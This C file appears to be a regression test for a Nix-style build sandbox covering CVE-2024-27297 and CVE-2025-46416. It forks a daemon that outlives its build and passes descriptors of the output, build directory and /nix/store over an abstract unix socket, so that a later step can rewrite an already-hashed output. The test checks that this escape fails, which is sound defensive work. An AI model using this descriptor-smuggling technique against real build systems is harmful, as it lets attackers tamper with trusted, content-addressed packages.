/* CVE: CVE-2024-27297, CVE-2025-46416
   Wins: a fixed output is changed after it was hashed, through a descriptor that left its build over a socket
   Verdict: ok
   Output: ok
   Fixed: flat
   Then: $program $first && echo ok > $out

   A process that is to outlive its builder offers, on an abstract address, descriptors of the output, of the build directory and of the store. The next step asks
   for them. Nobody may answer, and the output is what it was. */

#include "../attack.h"

enum { UNIX = 1, STREAM = 1, SOCKET = 359, BIND = 361, CONNECT = 362, LISTEN = 363, ACCEPT4 = 364, SENDMSG = 370, RECVMSG = 372, SETSID = 66 };

static u8 address[] = { UNIX, 0, 0, 'x', 'b', 'o', 'o', 't', '-', 'h', 'i', 's', 't', 'o', 'r', 'y' };
static struct {
	u32 length, level, type;
	int fds[3];
} rights = { sizeof rights, 1, 1, { -1, -1, -1 } };
static u8 byte[1];
static struct {
	void *base;
	u32 length;
} vector = { byte, 1 };
static struct {
	void *name;
	u32 name_length;
	void *vector;
	u32 vectors;
	void *control;
	u32 control_length, flags;
} message = { 0, 0, &vector, 1, &rights, sizeof rights, 0 };

static const char *variable(char **environment, const char *name)
{
	u32 n = length_of(name), i;

	for (; *environment; environment++) {
		for (i = 0; i < n && environment[0][i] == name[i]; i++)
			;
		if (i == n && environment[0][n] == '=')
			return *environment + n + 1;
	}
	return "";
}

static void offer(int told)
{
	int s = sys(SOCKET, UNIX, STREAM, 0), client;

	sys(SETSID);
	if (!FAILED(s) && !sys(BIND, s, address, sizeof address) && !sys(LISTEN, s, 5)) {
		sys(WRITE, told, "x", 1);
		sys(CLOSE, told);
		while (!FAILED(client = sys(ACCEPT4, s, 0, 0, 0)))
			sys(SENDMSG, client, &message, 0);
	}
	sys(EXIT, 0);
}

int attack(char **arguments, char **environment)
{
	char was[4];
	int ends[2], s, fd;

	if (arguments[1]) {
		s = sys(SOCKET, UNIX, STREAM, 0);
		if (!FAILED(s) && !FAILED(sys(CONNECT, s, address, sizeof address))) {
			must(0, "somebody of an earlier step answers");
			sys(RECVMSG, s, &message, 0);
			sys(PWRITE64, rights.fds[0], "no\n", 3, 0, 0);
		}
		fd = sys(OPEN, arguments[1], 0, 0);
		must(sys(READ, fd, was, 4) == 3 && was[0] == 'o' && was[1] == 'k', "the output of the earlier step has changed");
		return 0;
	}
	rights.fds[0] = sys(OPEN, variable(environment, "out"), O_RDWR, 0);
	rights.fds[1] = sys(OPEN, ".", 0, 0);
	rights.fds[2] = sys(OPEN, "/nix/store", 0, 0);
	must(!FAILED(rights.fds[0]), "(nothing: the attack could not begin)");
	sys(PIPE, ends);
	if (!sys(FORK)) {
		sys(CLOSE, ends[0]);
		offer(ends[1]);
	}
	sys(CLOSE, ends[1]);
	sys(READ, ends[0], was, 1); /* until it listens, or is gone */
	return 0;
}
